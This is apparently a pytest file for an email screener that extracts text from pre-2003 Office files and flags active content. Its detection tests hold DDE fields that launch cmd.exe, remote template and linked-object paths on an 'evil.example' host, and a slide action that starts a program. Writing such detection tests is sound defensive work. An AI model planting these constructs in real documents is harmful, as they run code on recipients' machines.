"""The text of Word, Excel and PowerPoint up to 2003, from files laid out by hand and from real ones."""

import struct

import pytest
from fakes import corpus
from fakes.compound_files import compound
from fakes.evasions.containers import zipped
from fakes.odd_mail import attached
from hypothesis import given
from hypothesis import strategies as st

from screener.anatomy.active import Active
from screener.anatomy.budget import Budget
from screener.anatomy.defects import Defect
from screener.anatomy.ledger import Ledger, NotInline
from screener.anatomy.message import Anatomy
from screener.anatomy.office import ole, ole_text

REAL = {
    "zbateson/00014_tests___data__emails__m0024.txt.eml": "je cherche dans les rues de quelques villages du sud du persil",
    "strelka/00000_src__python__strelka__tests__fixtures__test.eml.eml": "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
}


DRAWN = struct.pack("<HHL", 0x23, 0xF00B, 30) + struct.pack("<HLHL", 0x7F, 1, 0x80C0, 18) + "nightjar\0".encode("utf-16-le")
BOXED = (b"\0night", b"\1j\0a\0r\0", bytes(16))


def word(*pieces: str | bytes, flags: int = 0x200, version: int = 0xC1, drawn: bytes = b"***") -> bytes:
    """A document of these pieces: octets are one each, texts two."""
    stream = struct.pack("<HH6xH", 0xA5EC, version, flags).ljust(0x1AA, b"\0")
    borders, places = [0], b""
    for piece in pieces:
        octets = piece if isinstance(piece, bytes) else piece.encode("utf-16-le")
        offset = 2 * len(stream) | 0x40000000 if isinstance(piece, bytes) else len(stream)
        places += struct.pack("<HLH", 0, offset, 0)
        borders.append(borders[-1] + len(piece))
        stream += octets
    table = struct.pack(f"<{len(borders)}L", *borders) + places
    clx = b"\1\4\0xxxx\2" + struct.pack("<L", len(table)) + table
    stream = stream[:0x1A2] + struct.pack("<LL", len(drawn), len(clx)) + stream[0x1AA:]
    return compound({"WordDocument": stream, "1Table": drawn + clx})


def word_95(text: bytes, mark: int = 0xA5EC, at: int = 64, table: bytes = b"") -> bytes:
    head = struct.pack("<HH6xH12xLL", mark, 0x68, 0, at, at + len(text))
    return compound({"WordDocument": head.ljust(at, b"\0") + text, "0Table": table})


def word_95_of(text: bytes, language: int, fonts: tuple[int, ...]) -> bytes:
    """One that says its language, and the charsets of its fonts."""
    table = b"".join(bytes((8, 0, 0, 0, one, 0)) + b"abc" for one in fonts)
    head = struct.pack("<HHHH2xH12xLL", 0xA5EC, 0x68, 0, language, 0, 256, 256 + len(text)).ljust(0xD0, b"\0")
    head += struct.pack("<LL", 254 + len(text), 2 + len(table))
    return compound({"WordDocument": head.ljust(256, b"\0") + text + table})


def record(kind: int, value: bytes) -> bytes:
    return struct.pack("<HH", kind, len(value)) + value


def counted(text: str, flags: int = 0, before: bytes = b"", behind: bytes = b"") -> bytes:
    octets = text.encode("utf-16-le" if flags & 1 else "latin-1")
    return struct.pack("<HB", len(text), flags) + before + octets + behind


def workbook(*records: bytes, version: int = 0x600) -> bytes:
    return compound(
        {"Workbook": b"".join((record(0x809, struct.pack("<HH", version, 5) + bytes(12)), *records, record(0x0A, b"")))}
    )


def shared(*pieces: bytes) -> bytes:
    first, *more = pieces
    return record(0xFC, bytes(8) + first) + b"".join(record(0x3C, one) for one in more)


def atom(kind: int, value: bytes, *, holds: bool = False) -> bytes:
    return struct.pack("<HHL", 15 if holds else 0, kind, len(value)) + value


def presentation(*atoms: bytes) -> bytes:
    return compound({"PowerPoint Document": atom(1000, b"".join(atoms), holds=True), "Current User": bytes(20)})


def publication(*frames: str) -> bytes:
    """The texts of its frames behind the list of where they stand."""
    contents = [one.encode("utf-16-le") for one in frames]
    at, listed = 512, b"CHNKINK ".ljust(32, b"\0")
    for one in contents:
        listed += struct.pack("<H4sHL4sLL", 0x18, b"TEXT", 1, 1, b"TEXT", at, len(one))
        at += len(one)
    return compound({"Contents": bytes(100), "Quill/QuillSub/CONTENTS": listed.ljust(512, b"\0") + b"".join(contents)})


SUMMARY = (
    b"\xfe\xff" + bytes(22) + struct.pack("<L16xL", 1, 48)
    + struct.pack("<8L", 90, 3, 2, 32, 14, 50, 3, 58)
    + struct.pack("<LL", 0x1E, 9) + b"nightjar\0\0"
    + struct.pack("<LL", 3, 7)
    + struct.pack("<LL", 0x1F, 15) + "nachtvogel f\u00fcr\0".encode("utf-16-le")
)  # fmt: skip


CYRILLIC = b"\xfe\xff" + bytes(22) + struct.pack("<L16xL", 1, 48) + struct.pack("<6L", 50, 2, 1, 24, 2, 32)
CYRILLIC += struct.pack("<LHxx", 2, 1251) + struct.pack("<LL", 0x1E, 5) + "ночь\0".encode("cp1251")


def texts(octets: bytes, name: str = "a.doc") -> list[str]:
    return [text.text for text in Anatomy(attached(octets, name)).attachment_texts]


@pytest.mark.parametrize(
    ("octets", "text"),
    [
        (word("night", b"jar"), "nightjar"),
        (word(b"Gr\xfc\xdfe \x93a\x94", " \u043f\u0440\u0438\u0432\u0435\u0442"), "Grüße “a” привет"),
        (word("a\x07b\rc\x0bd\x1ee\x1ff\x01"), "a\nb\nc\nd-ef"),
        (word('see \x13 HYPERLINK "http://x.example" \x14nig\x15htjar'), 'see nightjar\n\n HYPERLINK "http://x.example" '),
        (word("a\x13b\x13c\x14d\x15e\x14f\x15g\x14\x15"), "afg\n\nb\ncde"),
        (word_95(b"night\rjar"), "night\njar"),
        (word(b"secret", flags=0x300), None),
        (workbook(shared(counted("nightjar") + counted("\u043d\u043e\u0447\u044c", 1))), "nightjar\nночь"),
        (
            workbook(shared(counted("night", 8, b"\2\0", bytes(8)) + counted("jar", 4, b"\3\0\0\0", b"xxx") + counted("end"))),
            "night\njar\nend",
        ),
        (workbook(shared(struct.pack("<HB", 8, 0) + b"night", b"\0jar" + counted("end"))), "nightjar\nend"),
        (workbook(shared(struct.pack("<HB", 8, 0) + b"night", b"\1" + "jar".encode("utf-16-le"))), "nightjar"),
        (workbook(shared(counted("a", 8, b"\2\0", bytes(3)), bytes(5) + counted("b"))), "a\nb"),
        (workbook(record(0x204, bytes(6) + counted("cell")), record(0x207, counted("sum", 1))), "cell\nsum"),
        (workbook(record(0x2F, bytes(6)), record(0x204, bytes(6) + counted("cell"))), None),
        (workbook(record(0x85, bytes(6) + b"\5\0Sheet"), record(0x14, counted("head"))), "Sheet\nhead"),
        (workbook(record(0x14, counted('&C&"Arial,Bold"night&Bjar&P'))), "nightjar"),
        (workbook(record(0x41E, b"\xc8\0" + counted('0.0 "nightjar"'))), "0.0 nightjar"),
        (workbook(record(0x41E, b"\xc8\0" + counted('"night"\\j"ar"'))), "nightjar"),
        (
            workbook(record(0x0A, b""), record(0x809, b"\0\6\x10\0"), record(0x2F, bytes(6)), record(0x207, counted("jar", 1))),
            "jar",
        ),
        (workbook(record(0x1B6, bytes(10) + b"\x08\0"), *(record(0x3C, one) for one in BOXED)), "night\nnightjar"),
        (workbook(record(0x1C, bytes(4) + b"\4\0note"), version=0x500), "note"),
        (workbook(record(0x42, b"\xe3\4"), record(0x207, b"\4\0\xed\xee\xf7\xfc"), version=0x500), "ночь"),
        (workbook(record(0x42, b"\x17\x27"), record(0x207, b"\4\0\xed\xee\xf7\xec"), version=0x500), "ночм"),
        (compound({"WordDocument": b"x", "\x05SummaryInformation": CYRILLIC}), "ночь"),
        (workbook(record(0xEC, DRAWN)), "nightjar"),
        (presentation(DRAWN), "nightjar"),
        (word("text", drawn=DRAWN), "text\nnightjar"),
        (word_95(b"nightjar", at=600, table=b"x" * 100), "nightjar\n"),
        (presentation(struct.pack("<HHL", 0, 1, 0x7FFFFFFF), atom(0x0FA8, b"nightjar")), "nightjar"),
        (workbook(record(0x100D, b"\0\0\x08\0nightjar")), "nightjar"),
        (workbook(record(0x800, bytes(10) + "nightjar\0".encode("utf-16-le"))), "nightjar"),
        (workbook(record(0x1BE, bytes(4) + counted("a") + counted("b", 1) + counted("c") + counted("jar"))), "a\nb\nc\njar"),
        (compound({"WordDocument": b"x", "\x05SummaryInformation": SUMMARY}), "nightjar\nnachtvogel für"),
        (workbook(record(0x1B6, bytes(18)), record(0x3C, b"\0a note"), record(0x3C, b"\0runs")), "a note"),
        (workbook(record(0x204, bytes(6) + b"\4\0cell"), record(0x85, bytes(6) + b"\5Sheet"), version=0x500), "cell\nSheet"),
        (publication("nightjar\r", "ночь"), "nightjar\n\nночь"),
        (
            presentation(atom(0x0FA0, "night\x0bjar".encode("utf-16-le")), atom(0x0FA8, b"gr\xfcn"), atom(9, b"xx")),
            "night\njar\ngrün",
        ),
    ],
)
def test_texts(octets: bytes, text: str | None) -> None:
    assert texts(octets) == ([] if text is None else [text])


@pytest.mark.parametrize(
    ("codec", "language", "fonts"),
    [
        ("cp1251", 0x419, ()),
        ("cp1251", 0x409, (0, 2, 204)),
        ("cp1253", 0x409, (161,)),
        ("cp932", 0x409, (0, 128)),
        ("cp1250", 0x415, (0,)),
    ],
)
def test_a_document_of_word_95_is_read_in_the_code_pages_that_it_names(codec: str, language: int, fonts: tuple[int, ...]) -> None:
    text = {"cp1251": "ночной козодой", "cp1253": "νυχτοπούλι", "cp932": "夜鷹", "cp1250": "zażółć"}[codec]
    found = texts(word_95_of(text.encode(codec), language, fonts))[0].split("\n")
    assert text in found
    assert len(found) == 2


def test_a_document_in_an_archive() -> None:
    assert texts(zipped(("a.doc", word("nightjar"))), "a.zip") == ["nightjar"]


@pytest.mark.parametrize("path", REAL)
def test_real_ones(path: str) -> None:
    content = next(one for one in corpus.specimens() if one.path == path).wire()
    assert any(REAL[path] in text.text for text in Anatomy(content).attachment_texts)


@pytest.mark.parametrize(
    "octets",
    [
        word(*["x" * 50] * 100),
        workbook(shared(*[counted("x" * 50)] * 100)),
        workbook(shared(counted("") * 1_000)),
        presentation(*[atom(0x0FA8, b"x" * 50)] * 100),
    ],
)
def test_no_more_than_is_read_for_words(octets: bytes) -> None:
    budget = Budget(text_floor=200, text_factor=0)
    anatomy = Anatomy(attached(octets, "a.doc"), budget=budget)
    assert sum(len(text.text) for text in anatomy.attachment_texts) <= 200
    if b"x" * 50 in octets:
        assert Defect.TEXT_TRUNCATED in {one.defect for one in anatomy.all_defects()}


@pytest.mark.parametrize(
    "octets", [word(b"x" * 9_000), workbook(shared(bytes(4_000), bytes(5_000))), presentation(atom(0x0FA8, b"x" * 9_000))]
)
def test_what_of_a_stream_is_too_much_to_be_read_is_told(octets: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ole_text, "STREAM_LIMIT", 8_192)
    anatomy = Anatomy(attached(octets, "a.doc"))
    _ = anatomy.attachment_texts
    assert Defect.TEXT_TRUNCATED in {one.defect for one in anatomy.all_defects()}


def test_long_ones_are_not_read_by_the_service_itself() -> None:
    anatomy = Anatomy(attached(word(b"x" * 200_000), "a.doc"), inline=True)
    with pytest.raises(NotInline):
        _ = anatomy.attachment_texts


@given(st.data(), st.sampled_from(["WordDocument", "Workbook", "PowerPoint Document"]))
def test_noise_is_read_to_its_end(data: st.DataObject, name: str) -> None:
    seed = {"WordDocument": word("a\x13b", b"c"), "Workbook": workbook(shared(counted("a", 9, b"\2\0")))}.get(
        name, presentation(atom(0x0FA0, b"a\0"))
    )
    octets = bytearray(seed)
    for at, value in data.draw(st.lists(st.tuples(st.integers(512, len(octets) - 1), st.integers(0, 255)), max_size=20)):
        octets[at] = value
    ledger = Ledger(Budget(), len(octets))
    for read in ole.read(bytes(octets), ledger, "a").texts:
        assert len(read(100)) <= 100


def acts(octets: bytes, name: str) -> set[Active]:
    return {kind for one in Anatomy(attached(octets, name)).attachments for kind in one.active_content}


def templated(path: str) -> bytes:
    strings = struct.pack("<HHH", 0xFFFF, 3, 0)
    strings += b"".join(struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in ("x", path, "title"))
    stream = struct.pack("<HH6xH", 0xA5EC, 0xC1, 0x200).ljust(0x400, b"\0")
    stream = stream[:0x19A] + struct.pack("<LL", 1, len(strings)) + stream[0x1A2:]
    return compound({"WordDocument": stream, "1Table": b"*" + strings})


def linked(path: str, flags: int = 8, double: int = 0, version: int = 0x600) -> bytes:
    """A workbook with a link to another program, or to a book."""
    octets = path.encode("utf-16-le" if double else "latin-1")
    book = record(0x1AE, struct.pack("<HHB", 0, len(path), double) + octets + b"\3\0\0abc")
    if version < 0x600:
        book = record(0x0A, b"") + record(0x17, bytes((len(octets),)) + octets)  # of a sheet
    return workbook(book, record(0x23, struct.pack("<HHH", flags, 0, 0) + b"\2\0A0"), version=version)


@pytest.mark.parametrize(
    ("octets", "active"),
    [
        (word('a \x13 DDEAUTO c:\\\\cmd.exe "/k calc" \x14x\x15 b'), {Active.DDE}),
        (word(b"a \x13 D", "DE c:\\cmd \x14x\x15 b"), {Active.DDE}),
        (word("\x13 \x13 QUOTE 68 68 69 \x15 cmd \x15"), {Active.DDE}),
        (word("\x13 REF a \x14b\x15" * 21_000 + "\x13 DDE cmd \x15"), {Active.DDE}),
        (word_95(b"a \x13 DDE cmd \x14x\x15 b"), {Active.DDE}),
        (word_95(b"a \x13 DDE cmd \x14x\x15 b", 0xA5DC), {Active.DDE}),
        (word("\x13 DDE cmd \x15", version=0x68), {Active.DDE}),
        (word("about DDE \x13 DATE \\@ DDMMYY \x14x\x15 DDE"), set()),
        (templated("http://evil.example/t.dotm"), {Active.TEMPLATE}),
        (templated("\\\\evil.example@80\\dav\\t.dotm"), {Active.TEMPLATE}),
        (templated("\\\\server\\templates\\t.dot"), {Active.SHARE}),
        (templated("C:\\Templates\\t.dot"), set()),
        (templated(""), set()),
    ],
)
def test_what_acts_in_a_word_document(octets: bytes, active: set[Active]) -> None:
    assert acts(octets, "a.doc") == active


@pytest.mark.parametrize(
    ("octets", "active"),
    [
        (linked("cmd\3/c calc"), {Active.DDE}),
        (linked("cmd\3/c calc", double=1), {Active.DDE}),
        (linked("cmd\3/c calc", version=0x500), {Active.DDE}),
        (linked("Word.Document.8\3http://evil.example/x.doc", flags=0x10), {Active.LINKED_OBJECT}),
        (linked("Word.Document.8\3C:\\x.doc", flags=0x10), set()),
        (linked("\1folder\3book.xls"), set()),
        (linked("\1folder\3book.xls", version=0x500), set()),
        (linked("book.xls"), set()),
        (linked("\3Sheet1", version=0x500), set()),
    ],
)
def test_what_acts_in_a_workbook(octets: bytes, active: set[Active]) -> None:
    assert acts(octets, "a.xls") == active


def test_a_text_of_more_pieces_than_are_read_is_a_defect() -> None:
    content = attached(word(*["x"] * 100_001), "a.doc")
    assert Defect.CONTAINER_TOO_LARGE in {one.defect for one in Anatomy(content).all_defects()}


def test_a_program_that_a_slide_starts() -> None:
    def clicked(action: int) -> bytes:
        return presentation(atom(0x0FF2, atom(0x0FF3, struct.pack("<LL8B", 0, 1, action, *bytes(7))), holds=True))

    assert acts(clicked(2), "a.ppt") == {Active.LAUNCH}
    assert not acts(clicked(4), "a.ppt")


@pytest.mark.parametrize(("kind", "macros"), [(0x40, True), (0x10, False)])
def test_a_sheet_that_says_itself_what_it_is(kind: int, macros: bool) -> None:
    sheets = record(0x0A, b"") + record(0x809, struct.pack("<HH", 0x600, kind) + bytes(12))
    octets = workbook(record(0x85, bytes(6) + b"\1\0a"), sheets)
    assert Anatomy(attached(octets, "a.xls")).attachments[0].macros is macros


def test_a_workbook_of_records_alone_that_starts_a_program() -> None:
    octets = record(0x409, struct.pack("<HHH", 0, 0x10, 0)) + record(0x17, b"\x0bcmd\3/c calc") + record(0x0A, b"")
    assert acts(octets, "a.xls") == {Active.DDE}
